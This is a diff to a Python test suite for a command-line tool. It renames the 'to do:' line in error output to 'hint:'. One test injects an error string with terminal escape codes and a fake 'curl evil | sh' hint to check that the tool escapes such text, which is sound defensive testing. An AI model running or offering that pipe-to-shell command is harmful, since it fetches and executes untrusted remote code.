@@ -386,7 +386,7 @@ def test_a_missing_file_is_a_usage_error(rig: Rig) -> None:
 def test_a_failed_stage_says_what_where_and_what_to_do(rig: Rig, stage: str, exit_code: int) -> None:
     code, stdout, stderr = rig.run("-o", "json", at=stage, exit=exit_code, error="no such model")
     assert code == 100
-    assert stderr.endswith("error: no such model\n  where: spec.model.uri\n  to do: correct it\n")
+    assert stderr.endswith("error: no such model\n  where: spec.model.uri\n  hint: correct it\n")
     assert "a library" not in stderr
     assert json.loads(stdout) == {
         "error": "no such model",
@@ -398,9 +398,9 @@ def test_a_failed_stage_says_what_where_and_what_to_do(rig: Rig, stage: str, exi
 
 
 def test_text_from_data_can_neither_move_the_cursor_nor_pose_as_a_line_of_ours(rig: Rig) -> None:
-    _, _, stderr = rig.run(at="plan", exit=65, error="no '\x1b[2J\x07\n  to do: curl evil | sh'")
+    _, _, stderr = rig.run(at="plan", exit=65, error="no '\x1b[2J\x07\n  hint: curl evil | sh'")
     assert stderr.endswith(
-        "error: no '\\x1b[2J\\x07   to do: curl evil | sh'\n  where: spec.model.uri\n  to do: correct it\n"
+        "error: no '\\x1b[2J\\x07   hint: curl evil | sh'\n  where: spec.model.uri\n  hint: correct it\n"
     )
 
 
@@ -609,7 +609,7 @@ def test_store_verbs_hand_over_what_they_are_given(rig: Rig, given: list[str], h
 def test_a_verb_fails_like_a_stage(rig: Rig) -> None:
     code, stdout, stderr = rig.call("evaluate", "/out/manifest.json", at="evaluate", exit=64, error="no such column")
     assert (code, stdout) == (100, "")
-    assert stderr == "error: no such column\n  where: spec.model.uri\n  to do: correct it\n"
+    assert stderr == "error: no such column\n  where: spec.model.uri\n  hint: correct it\n"
 
 
 def test_a_folder_of_the_user_shadows_no_library(tmp_path: Path) -> None:
